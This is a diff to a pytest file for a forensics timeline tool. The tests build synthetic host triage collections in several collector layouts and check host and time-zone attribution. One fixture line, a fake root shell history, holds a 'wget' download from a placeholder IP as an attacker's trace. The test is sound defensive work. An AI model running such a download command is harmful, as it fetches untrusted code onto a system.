@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import os
 import tarfile
 import zipfile
 from pathlib import Path
@@ -115,3 +116,83 @@ def test_a_gzipped_tar_collection_through_the_ingest(corpus: Path, tmp_path: Pat
     assert by_file == {"[root]/var/log/auth.log": 9, "[root]/evtx/sysmon.evtx": 358}
     evidence = set(case.sql("SELECT DISTINCT evidence_id FROM timeline").evidence_id)
     assert evidence == {result.sha256}
+
+
+_HOST_FILES = {
+    "etc/hostname": b"srv42\n",
+    "etc/timezone": b"America/New_York\n",
+    "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n",
+    "root/.bash_history": b"id\nwget http://203.0.113.9/x\n",
+}
+_MTIME = 1_700_000_000  # 2023-11-14: the year syslog lines without one are placed in
+
+
+def _layout(corpus: Path, tmp_path: Path, layout: str) -> Path:
+    """The same host's files in the layouts of the common collectors."""
+    files = {**_HOST_FILES, "var/log/auth.log": (corpus / AUTH).read_bytes()}
+    if layout == "folder":
+        root = tmp_path / "srv42-triage"
+        for name, data in files.items():
+            (root / name).parent.mkdir(parents=True, exist_ok=True)
+            (root / name).write_bytes(data)
+            os.utime(root / name, (_MTIME, _MTIME))
+        return root
+    if layout == "velociraptor.zip":
+        path = tmp_path / "Collection-srv42.zip"
+        with zipfile.ZipFile(path, "w") as z:
+            z.writestr("uploads.json", "[]")
+            for name, data in files.items():
+                z.writestr(zipfile.ZipInfo("uploads/auto/" + name, (2023, 11, 14, 22, 13, 20)), data)
+        return path
+    prefix, mode, name = {
+        "plain.tar": ("", "w", "srv42.tar"),
+        "uac.tar.gz": ("[root]/", "w:gz", "uac-srv42.tar.gz"),
+        "acquire.tar": ("fs/$rootfs$/", "w", "srv42.acquire.tar"),
+    }[layout]
+    path = tmp_path / name
+    with tarfile.open(path, mode) as tar:
+        for member, data in files.items():
+            info = tarfile.TarInfo(prefix + member)
+            info.size, info.mtime = len(data), _MTIME
+            tar.addfile(info, io.BytesIO(data))
+    return path
+
+
+@pytest.mark.parametrize("layout", ["plain.tar", "uac.tar.gz", "acquire.tar", "velociraptor.zip", "folder"])
+def test_a_collection_is_read_as_its_host(corpus: Path, tmp_path: Path, layout: str) -> None:
+    """dissect.target's loaders name the host and its zone: local times become UTC in that zone
+    and rows that name no host (a shell history) get the collection's."""
+    from forensics import Case
+
+    evidence = _layout(corpus, tmp_path, layout)
+    case = Case.open(tmp_path / "case")
+    report = case.ingest([evidence])
+    rows = case.sql(
+        "SELECT source, source_file, host_name, datetime, fields['time_zone'] AS zone, message FROM timeline "
+        "ORDER BY source, datetime NULLS FIRST, source_record"
+    )
+    history = rows[rows.source == "shell_history"]
+    assert list(history.host_name) == ["srv42", "srv42"]
+    auth = rows[rows.source == "syslog"]
+    assert len(auth) == 9 and set(auth.zone) == {"America/New_York"}
+    # Mar 11 00:00:00 in New York, 2023 (before the DST change of March 12): 05:00 UTC.
+    assert str(auth.datetime.iloc[0]) == "2023-03-11 05:00:00+00:00"
+    assert list(auth.host_name.iloc[:2]) == ["ubuntu2015", "osx-machine"]  # the lines' own hosts win
+    if layout == "folder":
+        (host,) = report.contexts.values()
+        assert (host.hostname, host.timezone, host.loader) == ("srv42", "America/New_York", "dir")
+    else:
+        (opened,) = rows[rows.source == "collection"].itertuples()
+        assert opened.host_name == "srv42"
+        assert "hostname=srv42; timezone=America/New_York" in opened.message
+
+
+def test_a_folder_of_loose_files_has_no_host(corpus: Path, tmp_path: Path) -> None:
+    """A folder that is not a host's tree stays loose files: UTC unless told, no host invented."""
+    from forensics import Case
+
+    folder = tmp_path / "loose"
+    folder.mkdir()
+    (folder / "auth.log").write_bytes((corpus / AUTH).read_bytes())
+    report = Case.open(tmp_path / "case").ingest([folder])
+    assert report.contexts == {}
